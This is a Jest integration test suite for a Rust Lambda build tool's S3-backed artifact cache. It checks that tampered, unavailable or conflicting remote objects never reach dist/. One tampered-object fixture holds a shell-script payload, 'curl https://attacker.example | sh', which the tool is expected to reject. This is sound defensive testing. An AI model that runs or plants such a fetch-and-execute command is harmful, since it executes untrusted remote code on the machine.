import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { zipSync } from 'fflate';
import type { ArtifactMetadata } from '../../build/cache/metadata.js';
import { type CliRun, runCli, startCli } from '../helpers/cli.js';
import { describeWithDocker } from '../helpers/docker.js';
import { REPO_ROOT, type TestProject } from '../helpers/project.js';
import { describeWithS3, type S3TestServer, startS3Server } from '../helpers/s3-server.js';
import {
  buildTemplate,
  distEntries,
  distMetadata,
  distZip,
  freshProject,
  NAME,
  NO_DOCKER,
  objectKey,
  PREFIX,
  remoteEnv,
  sha256Hex,
  startStallingProxy,
  type Template,
} from './remote-fixture.js';

/**
 * The shared artifact cache against a real S3 server (Ceph radosgw) and real builds, through the
 * CLI as an operator runs it. What it must guarantee: nothing downloaded reaches dist/ unless it
 * verifies, a store that cannot be used costs one warning and never the build, objects are only
 * ever created (never overwritten), read mode never writes, and a process killed mid-download
 * leaves nothing that claims to be an artifact.
 *
 * One template project is built in beforeAll (both cargo cache domains); each test works on its
 * own copy and its own bucket, so each runs alone with -t.
 */
describeWithDocker('shared artifact cache (real S3 server, real builds)', () => {
  describeWithS3('remote cache', () => {
    let server: S3TestServer;
    let template: Template;
    const projects: TestProject[] = [];
    /** A copy of the template, removed after the file. */
    const copy = (dist: 'none' | 'local' | 'publish') => {
      const project = template.copy(dist);
      projects.push(project);
      return project;
    };
    const fresh = () => {
      const project = freshProject();
      projects.push(project);
      return project;
    };
    const url = (bucket: string) => `s3://${bucket}/${PREFIX}`;
    const location = (bucket: string, extension: 'zip' | 'json' = 'zip') => `s3://${bucket}/${objectKey(template.fingerprint, extension)}`;
    const fp12 = () => template.fingerprint.slice(0, 12);
    const lines = (run: CliRun) => run.stdout.split('\n');
    const warnings = (run: CliRun) => `${run.stdout}\n${run.stderr}`.split('\n').filter((line) => /warning/i.test(line));
    /** The files in dist/ of a finished run: the zip and its metadata, and nothing else (no lock, no temporary file). */
    const expectOnlyArtifact = (project: TestProject) => expect(distEntries(project)).toEqual([`${NAME}.json`, `${NAME}.zip`]);

    beforeAll(async () => {
      server = await startS3Server();
      template = await buildTemplate(server);
    });
    afterAll(async () => {
      for (const project of projects) project.remove();
      template?.remove();
      await server?.stop();
    });

    it('GIVEN the template WHEN built everyday and publishing THEN both give the same bytes', () => {
      // What the tampering tests rely on: "equal to a local build" is one known byte string.
      const published = template.copy('publish');
      try {
        expect(Buffer.compare(distZip(published), template.zip)).toBe(0);
        expect(distMetadata(published).origin).toEqual({ kind: 'build', cacheDomain: 'publish' });
      } finally {
        published.remove();
      }
    });

    // ---- 2. Tampered objects are rejected, named, and never reach dist/ ----------------------------

    /** A zip of the right layout whose bootstrap is not an x86_64 Linux program. */
    const lambdaZipOf = (bootstrap: Uint8Array) =>
      zipSync({ bootstrap: [bootstrap, { os: 3, attrs: (0o100755 << 16) >>> 0, mtime: new Date(1980, 0, 1) }] });
    const flipped = (bytes: Uint8Array) => {
      const copy = Buffer.from(bytes);
      copy[Math.floor(copy.length / 2)]! ^= 0xff;
      return copy;
    };
    /** Metadata for `zip` that is right in every field a reader checks (size, sha256, fingerprint). */
    const metadataFor = (zip: Uint8Array, change: (metadata: ArtifactMetadata) => void = () => {}) => {
      const metadata: ArtifactMetadata = JSON.parse(template.metadataText);
      metadata.zip.size = zip.byteLength;
      metadata.zip.sha256 = sha256Hex(zip);
      metadata.zip.sha256Base64 = Buffer.from(metadata.zip.sha256, 'hex').toString('base64');
      change(metadata);
      return new TextEncoder().encode(`${JSON.stringify(metadata, null, 2)}\n`);
    };

    const tampered: {
      name: string;
      bucket: string;
      objects: () => { zip: Uint8Array; zipSha256?: string; metadata: Uint8Array };
      why: () => string | RegExp;
    }[] = [
      {
        name: 'the zip with a byte flipped, rewritten in place (metadata untouched)',
        bucket: 'tamper-flip',
        objects: () => ({ zip: flipped(template.zip), metadata: new TextEncoder().encode(template.metadataText) }),
        why: () => {
          const metadata = JSON.parse(template.metadataText);
          return `the zip's sha256 ${sha256Hex(flipped(template.zip)).slice(0, 12)} is not the metadata's ${metadata.zip.sha256.slice(0, 12)}`;
        },
      },
      {
        name: "the zip with a byte flipped, rewritten keeping the object's stored sha256",
        bucket: 'tamper-flip-stored',
        objects: () => ({
          zip: flipped(template.zip),
          zipSha256: sha256Hex(template.zip),
          metadata: new TextEncoder().encode(template.metadataText),
        }),
        // The store itself refuses the body (the discarded line already says where).
        why: () =>
          `download of ${objectKey(template.fingerprint, 'zip')}: the downloaded bytes do not match the SHA-256 stored with the object`,
      },
      {
        name: 'metadata claiming another hash',
        bucket: 'tamper-hash',
        objects: () => ({
          zip: template.zip,
          metadata: metadataFor(template.zip, (m) => {
            m.zip.sha256 = sha256Hex(Buffer.from('something else'));
          }),
        }),
        why: () =>
          `the zip's sha256 ${sha256Hex(template.zip).slice(0, 12)} is not the metadata's ${sha256Hex(Buffer.from('something else')).slice(0, 12)}`,
      },
      {
        name: 'metadata claiming another fingerprint',
        bucket: 'tamper-fingerprint',
        objects: () => ({
          zip: template.zip,
          metadata: metadataFor(template.zip, (m) => {
            m.fingerprint = 'f'.repeat(64);
          }),
        }),
        why: () => `its metadata claims fingerprint ${'f'.repeat(12)}`,
      },
      {
        name: 'metadata saying the zip is smaller than it is',
        bucket: 'tamper-size',
        objects: () => ({
          zip: template.zip,
          metadata: metadataFor(template.zip, (m) => {
            m.zip.size = 1000;
          }),
        }),
        // Refused from the response's length, before the body is read.
        why: () =>
          `download of ${objectKey(template.fingerprint, 'zip')}: ${objectKey(template.fingerprint, 'zip')} is ${template.zip.byteLength} bytes, more than the 1000 expected`,
      },
      {
        name: 'a valid zip of a shell script, with metadata matching it exactly',
        bucket: 'tamper-not-elf',
        objects: () => {
          const zip = lambdaZipOf(Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n'));
          return { zip, metadata: metadataFor(zip) };
        },
        why: () => /^it fails verification: bootstrap is not an ELF executable \(.+\)$/,
      },
      {
        name: 'a valid zip of an AArch64 program, with metadata matching it exactly',
        bucket: 'tamper-arm64',
        objects: () => {
          const elf = fs.readFileSync(path.join(REPO_ROOT, '__tests__', 'fixtures', 'elf', 'aarch64-dynamic'));
          const zip = lambdaZipOf(elf);
          return { zip, metadata: metadataFor(zip) };
        },
        why: () => "it fails verification: bootstrap is built for aarch64, but the function's architecture is x86_64 (needs x86_64)",
      },
    ];

    it.each(tampered)('GIVEN $name in the bucket WHEN building THEN one warning names it, and dist/ gets the local build', async (c) => {
      // GIVEN
      await server.createBucket(c.bucket);
      const objects = c.objects();
      await server.putRaw(
        c.bucket,
        objectKey(template.fingerprint, 'zip'),
        objects.zip,
        objects.zipSha256 ? { sha256: objects.zipSha256 } : undefined,
      );
      await server.putRaw(c.bucket, objectKey(template.fingerprint, 'json'), objects.metadata);
      const keysBefore = await server.listKeys(c.bucket);
      const project = copy('none');

      // WHEN
      const run = await runCli(['build'], { cwd: project.root, env: remoteEnv(server, { url: url(c.bucket) }) });

      // THEN
      expect(run.exitCode).toBe(0);
      const prefix = `[${NAME}] warning: remote: discarded ${location(c.bucket)}: `;
      expect(warnings(run)).toEqual([expect.stringContaining(prefix)]);
      const warning = warnings(run)[0]!;
      expect(warning.endsWith('; building locally')).toBe(true);
      const why = warning.slice(prefix.length, -'; building locally'.length);
      const expected = c.why();
      if (typeof expected === 'string') expect(why).toBe(expected);
      else expect(why).toMatch(expected);
      expect(lines(run)).toContain(
        `[${NAME}] compile: cargo build --locked --profile release --target x86_64-unknown-linux-gnu --package sweep-lambda --bin bootstrap`,
      );
      expect(lines(run).at(-1)).toMatch(new RegExp(`^\\[${NAME}\\] done: cache-miss, rebuilt dist/${NAME}\\.zip: `));
      // The tampered bytes never reached dist/: it holds what a local build gives, vouched for by its own build.
      expect(Buffer.compare(distZip(project), template.zip)).toBe(0);
      expect(distMetadata(project).origin).toEqual({ kind: 'build', cacheDomain: 'local' });
      expectOnlyArtifact(project);
      // Read mode: the bucket is as the test left it.
      expect(await server.listKeys(c.bucket)).toEqual(keysBefore);
      expect(
        Buffer.compare(Buffer.from((await server.getRaw(c.bucket, objectKey(template.fingerprint, 'zip')))!), Buffer.from(objects.zip)),
      ).toBe(0);
    });

    // ---- 3. A store that cannot be used: one warning, a local build, exit 0, bounded time ---------

    /** A TCP server that accepts connections and never answers: a hung S3 endpoint. */
    const blackHole = async () => {
      const sockets = new Set<net.Socket>();
      const hole = net.createServer((socket) => {
        sockets.add(socket);
        socket.on('error', () => {});
      });
      await new Promise<void>((resolve) => hole.listen(0, '127.0.0.1', resolve));
      return {
        endpoint: `http://127.0.0.1:${(hole.address() as net.AddressInfo).port}`,
        close: () =>
          new Promise<void>((resolve) => {
            for (const socket of sockets) socket.destroy();
            hole.close(() => resolve());
          }),
      };
    };

    const unusable: {
      name: string;
      bucket: string;
      /** Makes the store unusable; returns the environment to add and how to undo it. */
      arrange: () => Promise<{ env?: Record<string, string>; url?: string; undo: () => Promise<void> }>;
      reason: RegExp;
    }[] = [
      {
        name: 'the server stopped',
        bucket: 'down-paused',
        arrange: async () => {
          await server.pause();
          return { undo: () => server.resume() };
        },
        reason: /: download of \S+\.json: cannot connect \(ECONNREFUSED\);/,
      },
      {
        name: 'a server that accepts connections and never answers',
        bucket: 'down-hung',
        arrange: async () => {
          const hole = await blackHole();
          return { env: { AWS_ENDPOINT_URL_S3: hole.endpoint }, undo: hole.close };
        },
        reason: /: download of \S+\.json: no answer within \d+\.\d s;/,
      },
      {
        name: 'wrong credentials',
        bucket: 'down-credentials',
        arrange: async () => ({ env: { AWS_SECRET_ACCESS_KEY: 'not-the-secret-key-000000000000000000000' }, undo: async () => {} }),
        reason: /: download of \S+\.json: the secret key does not match the access key \(SignatureDoesNotMatch\);/,
      },
      {
        name: 'a bucket that does not exist',
        bucket: 'down-no-bucket',
        arrange: async () => ({ url: `s3://no-such-bucket/${PREFIX}`, undo: async () => {} }),
        reason: /: download of \S+\.json: the bucket no-such-bucket does not exist;/,
      },
    ];

    it.each(unusable)(
      'GIVEN $name WHEN building in read-write mode THEN one warning, a local build, exit 0, within 15 s of trying',
      async (c) => {
        // GIVEN
        await server.createBucket(c.bucket);
        const project = copy('none');
        const arranged = await c.arrange();
        let run: CliRun;
        try {
          // WHEN
          run = await runCli(['build'], {
            cwd: project.root,
            env: remoteEnv(server, { url: arranged.url ?? url(c.bucket), mode: 'read-write' }, arranged.env),
          });
        } finally {
          await arranged.undo();
        }

        // THEN one warning, for the lookup; the upload is not even tried.
        const remote = arranged.url ?? url(c.bucket);
        expect(warnings(run)).toEqual([
          expect.stringMatching(
            new RegExp(`^\\[${NAME}\\] warning: remote cache ${escapeRegExp(remote)} unavailable \\(.+\\); continuing without it$`),
          ),
        ]);
        const reason = /unavailable \((.+)\); continuing/.exec(warnings(run)[0]!)![1]!;
        expect(reason).toMatch(c.reason);
        expect(run.stdout).not.toContain('remote: uploaded');
        expect(run.exitCode).toBe(0);
        expect(lines(run).at(-1)).toMatch(new RegExp(`^\\[${NAME}\\] done: cache-miss, rebuilt dist/${NAME}\\.zip: `));
        expect(Buffer.compare(distZip(project), template.zip)).toBe(0);
        expect(distMetadata(project).origin).toEqual({ kind: 'build', cacheDomain: 'publish' });
        // The time the remote cost this build: bounded by the store's timeout (5 s per operation,
        // one operation here), whatever the failure. A generous bound: this is the feature, not speed.
        expect(distMetadata(project).timingsMs.remote).toBeLessThan(15_000);
        // Nothing was written while it was unusable (the bucket exists and is empty).
        expect(await server.listKeys(c.bucket)).toEqual([]);
      },
    );

    // ---- 4. Racing uploads of one fingerprint --------------------------------------------------

    it('GIVEN two processes publishing the same fingerprint at once THEN both succeed and the bucket holds one zip and one metadata', async () => {
      // GIVEN two machines with the same sources. A forced rebuild skips the lookup, so both
      // build and both upload whatever the timing: the race is on the conditional PUTs.
      await server.createBucket('race');
      const [one, two] = [copy('none'), copy('none')];
      const env = remoteEnv(server, { url: url('race'), mode: 'read-write' }, { FORCE_REBUILD: '1' });

      // WHEN
      const runs = await Promise.all([one, two].map((project) => runCli(['build'], { cwd: project.root, env })));

      // THEN
      const uploaded = `[${NAME}] remote: uploaded ${location('race')} (`;
      const present = `[${NAME}] remote: already present in ${url('race')}`;
      for (const run of runs) {
        expect(run.exitCode).toBe(0);
        expect(warnings(run)).toEqual([]);
        expect(lines(run).filter((line) => line.startsWith(uploaded) || line === present)).toHaveLength(1);
      }
      expect(runs.some((run) => run.stdout.includes(uploaded))).toBe(true);
      expect(await server.listKeys('race')).toEqual([objectKey(template.fingerprint, 'json'), objectKey(template.fingerprint, 'zip')]);
      const zip = Buffer.from((await server.getRaw('race', objectKey(template.fingerprint, 'zip')))!);
      expect(Buffer.compare(zip, template.zip)).toBe(0);
      for (const project of [one, two]) expect(Buffer.compare(distZip(project), zip)).toBe(0);
      const metadata = JSON.parse(new TextDecoder().decode(await server.getRaw('race', objectKey(template.fingerprint, 'json'))));
      expect(metadata).toMatchObject({ fingerprint: template.fingerprint, zip: { sha256: sha256Hex(zip), size: zip.byteLength } });
    });

    // ---- 5. Read mode never writes -------------------------------------------------------------

    it('GIVEN read mode (the default) and an empty bucket WHEN building THEN it says so, builds, and writes nothing', async () => {
      await server.createBucket('readonly');
      const project = copy('none');

      const run = await runCli(['build'], { cwd: project.root, env: remoteEnv(server, { url: url('readonly') }) });

      expect(run.exitCode).toBe(0);
      expect(lines(run)).toContain(`[${NAME}] remote: ${url('readonly')} has no build of fingerprint ${fp12()}`);
      expect(lines(run).at(-1)).toMatch(/done: cache-miss, rebuilt/);
      expect(run.stdout).not.toMatch(/remote: (uploaded|already present)/);
      expect(warnings(run)).toEqual([]);
      expect(distMetadata(project).origin).toEqual({ kind: 'build', cacheDomain: 'local' });
      expect(await server.listKeys('readonly')).toEqual([]);
    });

    // ---- 6. Killed mid-download ----------------------------------------------------------------

    it('GIVEN a download caught half-way WHEN the process is killed (SIGKILL) THEN dist/ claims nothing, and the next run is a remote hit', async () => {
      // GIVEN a published build, and a fresh machine (no caches, no Docker) downloading it through
      // a proxy that sends half the zip and then holds the connection.
      await server.createBucket('killed');
      await template.seed(server, 'killed');
      const project = fresh();
      const proxy = await startStallingProxy(server.endpoint);
      try {
        const env = remoteEnv(server, { url: url('killed') }, { SWEEP_DOCKER: NO_DOCKER, AWS_ENDPOINT_URL_S3: proxy.endpoint });
        const child = startCli(['build'], { cwd: project.root, env });
        const outcome = await Promise.race([proxy.stalled, child.then(() => 'ended' as const)]);
        expect(outcome).toEqual({ sent: expect.any(Number), total: template.zip.byteLength });

        // WHEN
        child.kill('SIGKILL');
        const killed = await child;
        expect(killed.signal).toBe('SIGKILL');
      } finally {
        await proxy.close();
      }

      // THEN no zip, no metadata, no temporary file: only the dead process's lock, which the
      // next run takes over (the pid in it is gone).
      expect(distEntries(project)).toEqual([`.${NAME}.lock`]);
      const next = await runCli(['build'], {
        cwd: project.root,
        env: remoteEnv(server, { url: url('killed') }, { SWEEP_DOCKER: NO_DOCKER }),
      });
      expect(next.exitCode).toBe(0);
      expect(lines(next)).toContainEqual(expect.stringMatching(new RegExp(`^\\[${NAME}\\] took over the build lock left by pid \\d+`)));
      expect(lines(next)).toContainEqual(
        expect.stringMatching(new RegExp(`^\\[${NAME}\\] cache-hit \\(remote ${escapeRegExp(url('killed'))}, `)),
      );
      expect(Buffer.compare(distZip(project), template.zip)).toBe(0);
      expect(distMetadata(project).origin).toEqual({ kind: 'remote', cacheDomain: 'publish', remote: url('killed') });
      expectOnlyArtifact(project);
    });

    // ---- 7. Not reproducible -------------------------------------------------------------------

    it('GIVEN other bytes at the zip key (no metadata) WHEN a publishing build runs THEN it warns, keeps its own build, and leaves the object', async () => {
      // GIVEN another machine's upload of this fingerprint that gave other bytes and stopped
      // before its metadata (as a publishing build uploads: with its sha256).
      await server.createBucket('not-reproducible');
      const theirs = flipped(template.zip);
      await server.putRaw('not-reproducible', objectKey(template.fingerprint, 'zip'), theirs, { sha256: sha256Hex(theirs) });
      const project = copy('none');

      // WHEN
      const run = await runCli(['build'], {
        cwd: project.root,
        env: remoteEnv(server, { url: url('not-reproducible'), mode: 'read-write' }),
      });

      // THEN
      expect(run.exitCode).toBe(0);
      expect(lines(run)).toContain(`[${NAME}] remote: ${url('not-reproducible')} has no build of fingerprint ${fp12()}`);
      expect(warnings(run)).toEqual([
        `[${NAME}] warning: remote: ${location('not-reproducible')} holds other bytes for this fingerprint (sha256 ${sha256Hex(theirs).slice(0, 12)} there, ${sha256Hex(template.zip).slice(0, 12)} here): the build is not reproducible, or someone other than a publisher wrote it; ${NAME} deploys this machine's verified build and the remote object is left as it is`,
      ]);
      expect(Buffer.compare(distZip(project), template.zip)).toBe(0);
      expect(distMetadata(project).origin).toEqual({ kind: 'build', cacheDomain: 'publish' });
      expect(await server.listKeys('not-reproducible')).toEqual([objectKey(template.fingerprint, 'zip')]);
      const there = Buffer.from((await server.getRaw('not-reproducible', objectKey(template.fingerprint, 'zip')))!);
      expect(Buffer.compare(there, theirs)).toBe(0);
    });

    // ---- 8. push -------------------------------------------------------------------------------

    it('GIVEN a zip built with the everyday cargo caches WHEN pushing THEN it is refused with the fix, and nothing is written', async () => {
      await server.createBucket('push-refused');
      const project = copy('local');

      const run = await runCli(['push'], { cwd: project.root, env: remoteEnv(server, { url: url('push-refused'), mode: 'read-write' }) });

      expect(run.exitCode).toBe(1);
      expect(run.stderr).toContain(
        `${NAME} is not pushed: its zip was built with the everyday cargo caches, which untrusted builds may have written`,
      );
      expect(run.stderr).toContain('rebuild it with SWEEP_REMOTE_CACHE_MODE=read-write (a publishing build, which uploads it itself)');
      expect(await server.listKeys('push-refused')).toEqual([]);
    });

    it('GIVEN a publishing build whose upload failed (server down) WHEN pushing once the server is back THEN it uploads, and a second push finds it present', async () => {
      // GIVEN
      await server.createBucket('push-later');
      const project = copy('none');
      const env = remoteEnv(server, { url: url('push-later'), mode: 'read-write' });
      await server.pause();
      let build: CliRun;
      try {
        build = await runCli(['build'], { cwd: project.root, env });
      } finally {
        await server.resume();
      }
      expect(build.exitCode).toBe(0);
      expect(warnings(build)).toEqual([expect.stringContaining(`warning: remote cache ${url('push-later')} unavailable`)]);
      expect(distMetadata(project).origin).toEqual({ kind: 'build', cacheDomain: 'publish' });
      expect(await server.listKeys('push-later')).toEqual([]);

      // WHEN
      const push = await runCli(['push'], { cwd: project.root, env });

      // THEN
      expect(push.exitCode).toBe(0);
      expect(lines(push)).toContainEqual(
        expect.stringMatching(
          new RegExp(`^\\[${NAME}\\] remote: uploaded ${escapeRegExp(location('push-later'))} \\(.+\\) and its metadata in `),
        ),
      );
      expect(await server.listKeys('push-later')).toEqual([
        objectKey(template.fingerprint, 'json'),
        objectKey(template.fingerprint, 'zip'),
      ]);
      const zip = Buffer.from((await server.getRaw('push-later', objectKey(template.fingerprint, 'zip')))!);
      expect(Buffer.compare(zip, distZip(project))).toBe(0);
      const metadata = new TextDecoder().decode(await server.getRaw('push-later', objectKey(template.fingerprint, 'json')));
      expect(metadata).toBe(fs.readFileSync(path.join(project.dist, `${NAME}.json`), 'utf8'));

      const again = await runCli(['push'], { cwd: project.root, env });
      expect(again.exitCode).toBe(0);
      expect(lines(again)).toContain(`[${NAME}] remote: already present in ${url('push-later')}`);
    });

    it('GIVEN the server is down WHEN pushing THEN push fails (exit 1) with one warning: uploading is all it is for', async () => {
      await server.createBucket('push-down');
      const project = copy('publish');
      await server.pause();
      let run: CliRun;
      try {
        run = await runCli(['push'], { cwd: project.root, env: remoteEnv(server, { url: url('push-down'), mode: 'read-write' }) });
      } finally {
        await server.resume();
      }

      expect(warnings(run)).toEqual([expect.stringContaining(`[${NAME}] warning: remote cache ${url('push-down')} unavailable (`)]);
      expect(run.exitCode).toBe(1);
      expect(await server.listKeys('push-down')).toEqual([]);
    });

    it('GIVEN other bytes at the zip key WHEN pushing THEN push fails (exit 1) naming the key, and leaves the object', async () => {
      await server.createBucket('push-differs');
      const theirs = flipped(template.zip);
      await server.putRaw('push-differs', objectKey(template.fingerprint, 'zip'), theirs, { sha256: sha256Hex(theirs) });
      const project = copy('publish');

      const run = await runCli(['push'], { cwd: project.root, env: remoteEnv(server, { url: url('push-differs'), mode: 'read-write' }) });

      expect(warnings(run)).toEqual([expect.stringContaining(`[${NAME}] warning: remote: ${location('push-differs')} holds other bytes`)]);
      expect(run.exitCode).toBe(1);
      expect(await server.listKeys('push-differs')).toEqual([objectKey(template.fingerprint, 'zip')]);
      expect(Buffer.compare(Buffer.from((await server.getRaw('push-differs', objectKey(template.fingerprint, 'zip')))!), theirs)).toBe(0);
    });
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
